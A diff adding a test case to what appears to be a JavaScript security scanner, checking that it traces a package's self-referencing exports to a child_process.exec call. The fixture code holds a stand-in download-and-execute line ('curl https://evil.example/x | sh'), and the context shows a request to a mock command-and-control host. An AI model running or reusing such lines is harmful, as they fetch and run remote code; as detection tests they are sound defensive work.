@@ -215,4 +215,13 @@ require("#lib/net").get("https://c2.evil.example/x");`,
       'payload.map:1 exec info Runs "curl" (child_process.execSync)',
     ]);
   });
+
+  it("follows the package's own name to its files, through its exports (self-reference)", () => {
+    const files = {
+      "a-index.js": `require("my-server/shell").run("curl https://evil.example/x | sh");`,
+      "package.json": JSON.stringify({ name: "my-server", exports: { ".": "./a-index.js", "./shell": "./lib/shell.js" } }),
+      "lib/shell.js": `exports.run = require("child_process").exec;`,
+    };
+    expect(seen(files, "a-index.js")).toEqual(['1 info Runs "curl" (child_process.exec)']);
+  });
 });
